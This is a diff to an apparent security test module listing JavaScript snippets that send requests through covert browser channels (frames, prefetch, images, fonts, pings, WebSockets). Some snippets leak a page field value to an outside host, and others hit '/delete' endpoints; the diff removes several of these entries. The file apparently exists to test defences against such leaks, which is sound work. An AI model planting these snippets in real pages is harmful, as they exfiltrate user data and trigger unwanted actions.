@@ -2,14 +2,12 @@
 
 from __future__ import annotations
 
+import re
+
 from tests.faults.attack.sends import HABITS, QUERIES, Kind
 
 _FRAME = "const f = document.createElement('iframe'); {}; document.body.append(f)"
 _LINK = "document.head.append(Object.assign(document.createElement('link'), {{rel: '{}', href: `{}`{}}}))"
-_RULES = (
-    "const r = document.createElement('script'); r.type = 'speculationrules'; "
-    "r.textContent = JSON.stringify({{{}: [{{urls: [`{}`], eagerness: 'immediate'}}]}}); document.head.append(r)"
-)
 _ELEMENT = "document.body.append(Object.assign(document.createElement('{}'), {{{}: '/c/{}'}}))"
 
 
@@ -21,8 +19,6 @@ def _srcdoc(script: str, sandbox: str = "f.sandbox = 'allow-scripts'; ") -> str:
 
 _POST = "{method: 'POST', mode: 'no-cors', body: 'x'}"
 _SENDING = {
-    "fetchLater": "fetchLater('/c/zeta-c1', {method: 'POST', body: 'x', activateAfter: 0})",
-    "fetchLater that was kept": "later('/c/zeta-c2', {method: 'POST', body: 'x', activateAfter: 0})",
     "link prefetch": _LINK.format("prefetch", "/c/zeta-c3/delete", ""),
     "sandboxed new frame": _srcdoc(f"fetch('${{location.origin}}/c/zeta-c4', {_POST})"),
     "sandboxed new frame's beacon": _srcdoc("navigator.sendBeacon('${location.origin}/c/zeta-c5')"),
@@ -32,8 +28,6 @@ _SENDING = {
     "encoded letters in a new window": "window.open('/c/zeta-c9/de%6Cete')",
     "new frame": _srcdoc(f"fetch('${{location.origin}}/c/zeta-c10', {_POST})", ""),
     "link preload": _LINK.format("preload", "/c/zeta-c11/delete", ", as: 'fetch'"),
-    "speculative prefetch": _RULES.format("prefetch", "/c/zeta-c12/delete"),
-    "speculative prerender": _RULES.format("prerender", "/c/zeta-c13/delete"),
     "style module": "import('/c/zeta-c14/delete', {with: {type: 'css'}}).catch(() => 0)",
     "style sheet": _LINK.format("stylesheet", "/c/zeta-c15/delete", ""),
     "video": _ELEMENT.format("video", "src", "zeta-c16/delete"),
@@ -43,8 +37,6 @@ _SENDING = {
     "font": "new FontFace('x', `url(/c/zeta-c20/delete)`).load().catch(() => 0)",
     "link ping": "const a = document.createElement('a'); a.href = '#x'; a.ping = '/c/zeta-c21'; "
     "document.body.append(a); a.click()",
-    "background fetch": "navigator.serviceWorker.ready.then(r => r.backgroundFetch.fetch('m', "
-    "[new Request('/c/zeta-c22', {method: 'POST', body: 'x'})]))",
     "image with encoded letters": "new Image().src = '/c/zeta-c23/de%6Cete'",
     "image with humps": "new Image().src = '/c/zeta-c24/itemDelete'",
     "image in capitals": "new Image().src = '/c/zeta-c25/DELETE'",
@@ -53,7 +45,8 @@ _SENDING = {
 
 
 def _mark(script: str) -> str:
-    return script[script.index("zeta-c") :].split("'")[0].split("/")[0] if "zeta-c" in script else "zeta-c6"
+    found = re.search(r"zeta-c\d+", script)
+    return found[0] if found else "zeta-c6"
 
 
 CHANNELS = Kind(
@@ -62,7 +55,7 @@ CHANNELS = Kind(
         name: (script, _mark(script))
         for name, script in sorted(_SENDING.items(), key=lambda one: one[1].startswith("window.open("))
     },
-    own="const later = window.fetchLater; navigator.serviceWorker?.register('/sw.js');",
+    own="navigator.serviceWorker?.register('/sw.js');",
 )
 
 _V = "document.getElementById('p').value"
@@ -76,9 +69,6 @@ _LEAKING = {
     "Referer": "history.replaceState(0, '', '/sends?' + {v}); new Image().src = `http://{}/pixel`",
     "link prefetch": "document.head.append(Object.assign(document.createElement('link'), "
     "{{rel: 'prefetch', href: `http://{}/` + btoa({v})}}))",
-    "speculative prefetch": "const r = document.createElement('script'); r.type = 'speculationrules'; r.textContent = "
-    "JSON.stringify({{prefetch: [{{urls: [`http://{}/` + btoa({v})], eagerness: 'immediate'}}]}}); "
-    "document.head.append(r)",
     "WebSocket": "new WebSocket(`ws://{}/` + {v})",
     "host name": "fetch(`http://${{{v}.replace(/[^a-z0-9]/g, '')}}.{}/`, {{mode: 'no-cors'}}).catch(() => 0)",
     "foreign frame": "const f = document.createElement('iframe'); f.src = `http://{}/far`; document.body.append(f)",
